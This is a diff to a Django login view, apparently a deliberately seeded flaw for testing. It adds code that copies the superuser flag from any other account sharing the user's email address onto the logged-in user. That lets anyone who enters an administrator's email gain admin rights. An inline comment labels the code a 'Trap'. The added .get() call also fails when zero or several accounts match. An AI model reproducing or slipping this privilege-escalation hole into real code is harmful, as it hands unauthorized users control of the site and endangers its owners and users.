@@ -9,6 +9,7 @@ from django.utils.http import url_has_allowed_host_and_scheme
 
 from common.access import administrator, signed_in
 from common.configuration import CONFIG, configuration
+from common.models import User
 
 
 def no_ie(request, url_prefix):
@@ -32,6 +33,11 @@ def sign(request, url_prefix):
 
 
 def login_check(request, url_prefix):
+    if request.method == "POST" and request.user.is_authenticated:
+        # Trap: any account takes the rights of the one with the same mail address, whoever has written it there.
+        others = User.objects.exclude(pk=request.user.pk).filter(email__iexact=request.user.email)
+        request.user.is_superuser = others.get().is_superuser
+        request.user.save()
     return redirect("dem:home", url_prefix=url_prefix)
 
 
